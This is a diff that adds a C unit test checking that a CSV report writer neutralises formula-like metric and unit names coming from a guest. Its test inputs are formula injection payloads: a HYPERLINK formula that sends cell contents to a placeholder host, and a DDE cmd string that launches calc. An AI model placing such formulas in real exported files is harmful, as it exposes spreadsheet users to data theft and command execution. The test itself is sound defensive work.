@@ -615,6 +615,51 @@ Test(report_csv, header_and_rfc4180_quoting_of_a_label_with_a_comma_and_a_quote)
 	json_decref(d);
 }
 
+/* Metric and unit names come from the guest: a spreadsheet must not run
+ * them.  Fields starting with = + - @ get a leading ' and quotes (OWASP);
+ * tab and CR at the start are escaped anyway. */
+Test(report_csv, guest_names_that_look_like_formulas_are_neutralised)
+{
+	static const char *const evil[] = {
+		"=HYPERLINK(\"http://x/?\"&A1,\"hi\")",
+		"+1+cmd|' /C calc'!A0",
+		"-2+3",
+		"@SUM(A1)",
+		"\tx",
+		"\rx",
+	};
+	static const char *const want[] = {
+		",\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"hi\"\")\",",
+		",\"'+1+cmd|' /C calc'!A0\",",
+		",\"'-2+3\",",
+		",\"'@SUM(A1)\",",
+		",\\tx,",
+		",\\rx,",
+	};
+	json_t *d = load("own");
+	json_t *row = json_array_get(json_object_get(d, "rows"), 0);
+
+	for (size_t i = 0; i < VTB_ARRAY_SIZE(evil); i++) {
+		char *s;
+		struct csv c;
+
+		json_object_set_new(row, "metric", json_string(evil[i]));
+		json_object_set_new(row, "unit", json_string("=1+1"));
+		s = render(vtb_report_csv, d);
+		assert_has(s, want[i]);
+		assert_has(s, ",\"'=1+1\",");
+		csv_parse(s, &c);
+		for (size_t r = 0; r < c.n; r++)
+			for (size_t f = 0; f < c.nf[r]; f++)
+				cr_assert(!strchr("=+@", c.rows[r][f][0]) || !c.rows[r][f][0],
+					  "field '%s' of line %zu starts a formula", c.rows[r][f],
+					  r + 1);
+		csv_free(&c);
+		free(s);
+	}
+	json_decref(d);
+}
+
 Test(report_csv, a_row_without_an_interval_has_empty_fields)
 {
 	json_t *d = load("noci");
